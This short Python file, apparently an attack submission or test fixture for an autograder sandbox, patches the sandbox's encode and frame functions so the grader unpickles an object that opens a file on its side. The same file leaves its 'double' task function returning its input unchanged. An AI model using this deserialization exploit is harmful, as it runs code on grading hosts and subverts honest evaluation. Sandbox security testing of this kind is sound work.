"""The codec is replaced by pickle, with an object that opens a file where it is unpickled."""

import pickle
import struct
import sys


class Bomb:
    def __reduce__(self):
        return (open, ("/course/left-by-attack", "w"))


for name, module in list(sys.modules.items()):
    if name.startswith("autograder.sandbox"):
        if hasattr(module, "encode"):
            module.encode = lambda value: pickle.dumps(Bomb())
        if hasattr(module, "frame"):
            data = pickle.dumps(Bomb())
            module.frame = lambda message: struct.pack(">I", len(data)) + data


def double(x):
    return x
